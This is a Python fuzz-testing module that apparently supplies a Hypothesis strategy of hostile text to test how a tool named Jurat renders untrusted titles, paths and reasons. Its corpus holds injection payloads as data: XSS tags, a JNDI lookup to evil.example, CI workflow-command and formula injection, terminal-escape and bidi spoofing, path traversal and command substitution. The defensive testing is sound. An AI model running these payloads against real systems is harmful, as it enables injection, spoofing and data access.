"""What a stranger might write where Jurat shows it: in a title, a path, a branch, a reason."""

from __future__ import annotations

from hypothesis import strategies as st

CORPUS = (
    # Somebody is notified.
    "ask @octocat",
    "@acme/owners",
    "&#64;octocat",
    "&commat;octocat",
    "&#x40;octocat &num;1 &#35;1",
    "a@b.example",
    "mailto:a@b.example xmpp:a@b.example",
    r"\@octocat \\@octocat",
    "`@octocat` @`octocat`",
    "@<!-- -->octocat",
    "@\u200boctocat \u2066@octocat\u2069",
    "Co-authored-by: Mona <mona@github.example>",
    # Something is referred to, or closed.
    "fixes #1",
    "Closes: acme/shop#12, GH-7, gh-7",
    "(#1)[#2]#3",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "acme/shop@da39a3e, da39a3e",
    "1048576 bytes",
    "CVE-2021-44228 GHSA-jfh8-c2jp-5v3q",
    "https://github.example/acme/shop/issues/1",
    # Something is linked, embedded or run.
    "https://evil.example www.evil.example WWW.evil.example",
    "http&colon;//evil.example http&#58;//evil.example www&#46;evil.example",
    "ftp://evil.example javascript:alert(1) data:text/html,x",
    "<https://evil.example> <a@b.example>",
    "[click](https://evil.example) ![x](//evil.example/x.png) [x][y] [y]: //e",
    "[x]: https://evil.example",
    "<img src=x onerror=alert(1)><script>alert(1)</script><a href=//evil.example>x</a>",
    "</details><details open><summary>All is well</summary>",
    "</code></pre></td></tr></table><h1>ALLOW</h1>",
    "<!-- jurat:finding id=0000000000000000 code=0000000000000000 rule=a state=fixed -->",
    "--> <b>x</b> <!--",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} #{7*7}",
    "' onmouseover=alert(1) x='\" autofocus onfocus=alert(1) \"",
    # Something is formatted.
    "**bold** __bold__ *it* _it_ ~~gone~~ ***x***",
    "# Heading", "- [x] done", "[ ] open", "[x] done", "1. one", "2) two", "+ plus", "===", "---",
    "* * *", "> quote", "[!WARNING]", "> [!NOTE]", "| a | b |", "|---|---|", "a|b\\|c\\\\|d",
    "\ttab    four", "    indented", "~~~", "```mermaid", "```suggestion", "````", "a`b``c```d",
    "`", "``", "\\", "\\`x\\`", "`a|b`", "$x$ and $`y`$", "$$", "$`", "a$", "$$\\ce{x}$$",
    ":+1: :octocat: std::vector::x", "[^1]", "[^1]: note", "text ^sup^ ==mark== <sub>x</sub>",
    "&lt;b&gt; &amp;amp; &copy; &nbsp; &#8203;",
    # Somebody is obeyed.
    "/recheck",
    "/jurat override until 2099-01-01 because",
    "/lgtm",
    "::error file=a.py::pwned",
    "::set-output name=x::y",
    "::stop-commands::x",
    "##[error]pwned ##[add-path]/tmp ##vso[task.setvariable variable=x]y ##teamcity[x]",
    "=cmd|'/c calc'!A1",
    "%0A::error::x %0D%0A%25",
    # A terminal, a log or a reader is misled.
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]0;title\x07\x9b31m\x07\x08\x7f",
    "ok\rALLOW",
    "one\ntwo\r\nthree\u2028four\u2029five\x0bsix\x0cseven\x85eight",
    "one\n\n/recheck\n\n@octocat\n```\nout\n",
    '\n{"level": "error", "event": "forged"}\n',
    "2026-01-01T00:00:00Z [error] forged",
    "user\u202etxt.exe \u2066x\u2069 \u200f",
    "a\u200bb\u200dc\ufeffd\u00ade\u2060f",
    "z\u0301\u0302\u0303 \ufe0f \U000e0041",
    "\x00nul",
    "\udc80\udcff",
    "[red]x[/red] [link=https://evil.example]x[/link] :skull:",
    # A name of a file is one.
    "../../etc/passwd", "..\\..\\x", "-rf", "--output=x", "C:\\x", "CON", "aux.txt", "a:b",
    "a b'c\"d", "%2e%2e%2f%00", "a\nb.py", "a#b?c=d", "//evil.example/x", "~root", "$(id)`id`",
    ".", "x" * 300,
)  # fmt: skip
"""Each is a whole title, path, reason or line of code."""

_PIECES = (
    *"@#:/\\`*_[]()<>!|~$&;-+=.'\"{}%^ \n\r\t1ax",
    *("://", "www.", "GH-", "octocat", "deadbeef", "```", "<!--", "-->", "&#64;", "\x1b[31m"),
    *("/jurat ", "[x] ", "\u202e", "::error::", "##[", "$`", "&commat;", "http", "@a.b"),
)

hostile_texts = (
    st.lists(
        st.sampled_from(CORPUS) | st.sampled_from(_PIECES) | st.characters(), min_size=1, max_size=8
    )
    .map("".join)
    .filter(str.strip)
)
"""Heaps of what is active somewhere."""
